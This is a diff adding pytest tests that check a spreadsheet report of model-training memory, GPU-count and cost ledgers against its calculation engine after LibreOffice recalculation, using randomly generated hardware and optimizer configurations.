+        for key, choices in (("weight_dtype", ["fp32", "bf16", "fp16", "fp8"]), ("grad_dtype", ["fp32", "bf16"]),
+                             ("main_grad_dtype", ["none", "fp32"]), ("m_dtype", ["bf16", "fp8", "int8"]),
+                             ("optimizer", ["adamw", "sgd", "momentum", "lion", "adafactor", "adam8bit"]),
+                             ("recompute", ["none", "selective", "full"]), ("logits_dtype", ["bf16"]),
+                             ("weights_at", ["host"]), ("master_at", ["host", "nvme"]), ("optimizer_at", ["host"])):
+            if rng.random() < 0.25:
+                c[key] = rng.choice(choices)
+        mb = rng.choice([1, 2, 4])
+        c["micro_batch"] = mb
+        if rng.random() < 0.8:
+            c["global_batch"] = mb * dp * rng.choice([1, 8, 64])
+        c["gpu"] = rng.choice(["H100-SXM", "A100-40GB", "B200", "MI300X", "GB200"])
+        if rng.random() < 0.2:
+            c["hbm_gb"] = rng.choice([24, 40.5])
+        c["mfu"] = round(rng.uniform(0.1, 0.6), 3)
+        if rng.random() < 0.8:
+            c["tokens"] = rng.choice([10**11, 15 * 10**12, 123456789012345])
+            c["days"] = rng.choice([7, 30, 90.5])
+            c["reserve_days"] = rng.choice([0, 1, 2.5])
+            c["price_per_gpu_hour"] = rng.choice([1, 3.99])
+        if rng.random() < 0.2:
+            c["measured_peak_gb"] = rng.choice([45.3, 79.9])
+        out.append(c)
+    return out
+
+
+@pytest.mark.slow
+def test_random_sweep_recalculates_to_the_engine():
+    """400 varied configurations (fixed seed) in one workbook, every cached value poisoned,
+    LibreOffice's recalculation equals the engine in every Ledgers cell; no error anywhere."""
+    leds = _ledgers(_random_configs(9, 400))  # seed 9 has 17 values where plain ceil() differs
+    out = _load(_recalc(_poisoned(render_xlsx(leds))), data_only=True)
+    assert _ledger_mismatches(out[LEDGERS], leds) == []
+    errors = [(ws.title, c.coordinate) for ws in out.worksheets for row in ws.iter_rows() for c in row
+              if c.data_type == "e"]
+    assert errors == []
+
+
+@pytest.mark.slow
+def test_example_rows_in_libreoffice_equal_calc_json():
+    """Issue 3, done-when: for every row of inputs/examples.csv, LibreOffice's forced recalculation
+    of the built workbook equals what ``calc --json`` prints (the engine's document), rel 1e-9."""
+    from ledger_report.inputs import read_configs
+
+    leds = [compute(c) for c in read_configs(ROOT / "inputs" / "examples.csv")]
+    out = _load(_recalc(_poisoned(render_xlsx(leds))), data_only=True)
+    assert _ledger_mismatches(out[LEDGERS], leds) == []
+    summ = out[SUMMARY]
+    col = {c.value: c.column for c in summ[1]}
+    for i, led in enumerate(leds):
+        doc = led.to_dict()
+        comp = doc["compute"]
+        row = 2 + i
+
+        def got(header):
+            return summ.cell(row, col[header]).value
+
+        assert got("name") == doc["name"]
+        assert _same(_gb(doc["state_bytes_per_rank"]), got("state GB per rank (HBM)"))
+        assert _same(_gb(doc["peak_bytes_per_rank"]), got("peak GB per rank"))
+        assert _same(_gb(doc["hbm_bytes"]), got("HBM GB"))
+        assert _same(doc["fits"], got("fits"))
+        assert _same(_gb(doc["state_bytes_logical_total"]), got("logical state total GB"))
+        assert _same(comp["min_gpus_compute"], got("min GPUs (compute gate)"))
+        assert _same(comp["min_gpus_memory"], got("min GPUs (memory gate)"))
+        assert _same(comp["binding_gate"], got("binding gate"))
+        assert _same(comp["days"], got("days on this configuration"))
+        assert _same(comp["gpu_hours"], got("GPU-hours"))
+        assert _same(comp["cost"], got("cost"))
+        ledger_sheet = out.worksheets[3 + i]
+        shown = {c.value for r in ledger_sheet.iter_rows() for c in r if isinstance(c.value, (int, float))}
+        for line in doc["states"]:
+            assert any(_same(line["bytes_per_rank"] / 1e9, x) for x in shown), (led.name, line["state"], line["part"])
